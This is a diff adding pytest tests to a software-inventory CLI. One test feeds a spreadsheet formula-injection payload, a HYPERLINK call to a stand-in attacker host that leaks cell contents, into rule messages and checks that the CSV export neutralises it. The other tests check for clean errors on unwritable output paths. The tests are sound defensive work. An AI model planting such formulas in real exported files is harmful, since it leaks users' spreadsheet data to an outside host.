@@ -97,3 +97,47 @@ def test_html_is_a_whole_page(run_cli, tmp_path: Path):
     page = target.read_text(encoding="utf-8")
     assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
     assert page.index("Firefox ESR") < page.index("<table")  # what is owed comes before the full list
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(run_cli, tmp_path: Path):
+    rules = json.loads(DESIGN_EXAMPLE.read_text())
+    for rule in rules["rules"]:
+        rule["message"] = {"en": '=HYPERLINK("https://evil.example/?"&A1,"Click to update")'}
+    hostile = tmp_path / "hostile.json"
+    hostile.write_text(json.dumps(rules))
+    result = run_cli("--root", DEBIAN, "--platform", "linux", "--rules", str(hostile), "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(result.out)))
+    assert rows
+    for row in rows:
+        assert row["message"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click to update")'
+        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
+
+
+FORMATS = ("text", "json", "html", "nagios", "prometheus", "jamf", "intune", "csv", "ansible")
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_every_format_into_a_missing_folder_fails_cleanly(run_cli, tmp_path: Path, fmt: str):
+    result = run_cli(*OWED, "--format", fmt, "--output", str(tmp_path / "missing" / "report"))
+    assert result.status == (3 if fmt == "nagios" else 5)  # a plugin's own errors are UNKNOWN
+    assert f"clientcheck: error: cannot write {tmp_path / 'missing' / 'report'}: folder " in result.err
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_every_format_into_a_folder_nobody_may_write_leaves_nothing(run_cli, fmt: str):
+    # sysfs refuses new files even to root (CI runs as root).
+    if not Path("/sys/kernel").is_dir():
+        pytest.skip("needs Linux sysfs")
+    target = "/sys/kernel/clientcheck-report"
+    result = run_cli(*OWED, "--format", fmt, "--output", target)
+    assert result.status == (3 if fmt == "nagios" else 5)
+    assert not Path(target).exists()
+    assert not [name for name in Path("/sys/kernel").iterdir() if name.name.startswith(".clientcheck-report")]
+
+
+def test_a_sink_that_cannot_be_written_is_an_error_naming_it(run_cli, tmp_path: Path):
+    sink = tmp_path / "missing" / "clientcheck.prom"
+    result = run_cli(*OWED, env={"CLIENTCHECK_REPORT_SINKS": f"prometheus:{sink}"})
+    assert result.status == 5
+    assert result.err.startswith(f"clientcheck: error: cannot write {sink}: ")
